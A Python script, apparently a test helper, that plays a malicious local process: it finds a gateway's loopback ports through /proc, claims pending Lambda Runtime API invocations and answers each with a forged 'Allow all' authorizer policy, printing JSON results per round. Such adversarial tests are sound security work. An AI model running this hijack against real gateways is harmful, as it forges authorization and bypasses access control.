"""A local process trying to take over a gateway's Lambda workers.

Usage: hijack.py GATEWAY_PID. Until its standard input closes, it finds
every TCP port the gateway listens on at 127.0.0.1 (from /proc/net/tcp and
the gateway's file descriptors, as any process of the same user can), and
on each one asks the Runtime API for the next event; whatever it receives
it answers with an Allow policy. After each round it prints one JSON line:
{"round": n, "ports": [...], "calls": [[port, call, status, body], ...]}.
"""

import http.client
import json
import os
import sys
import threading

GATEWAY = sys.argv[1]
ALLOW = json.dumps({
    "principalId": "hijacker",
    "policyDocument": {"Version": "2012-10-17", "Statement": [
        {"Action": "execute-api:Invoke", "Effect": "Allow", "Resource": "*"}]},
})

stop = threading.Event()


def wait_stdin():
    sys.stdin.read()
    stop.set()


def gateway_sockets():
    inodes = set()
    fd_dir = "/proc/%s/fd" % GATEWAY
    for fd in os.listdir(fd_dir):
        try:
            link = os.readlink(os.path.join(fd_dir, fd))
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(link[len("socket:["):-1])
    return inodes


def listening_ports():
    inodes = gateway_sockets()
    ports = []
    with open("/proc/net/tcp") as f:
        next(f)
        for line in f:
            fields = line.split()
            local, state, inode = fields[1], fields[3], fields[9]
            addr, port = local.split(":")
            if state == "0A" and addr == "0100007F" and inode in inodes:
                ports.append(int(port, 16))
    return sorted(ports)


def call(port, method, path, body=None):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
    try:
        conn.request(method, path, body=body, headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        return resp.status, resp.getheader("Lambda-Runtime-Aws-Request-Id"), resp.read().decode("utf-8", "replace")
    except Exception as e:  # a closed or silent port: not a Runtime API
        return 0, None, type(e).__name__
    finally:
        conn.close()


def main():
    threading.Thread(target=wait_stdin, daemon=True).start()
    n = 0
    while not stop.is_set():
        n += 1
        ports = listening_ports()
        calls = []
        for port in ports:
            status, req_id, body = call(port, "GET", "/2018-06-01/runtime/invocation/next")
            calls.append([port, "next", status, body])
            if status == 200 and req_id:
                s, _, b = call(port, "POST", "/2018-06-01/runtime/invocation/%s/response" % req_id, ALLOW)
                calls.append([port, "response", s, b])
        try:
            print(json.dumps({"round": n, "ports": ports, "calls": calls}), flush=True)
        except BrokenPipeError:
            return


main()
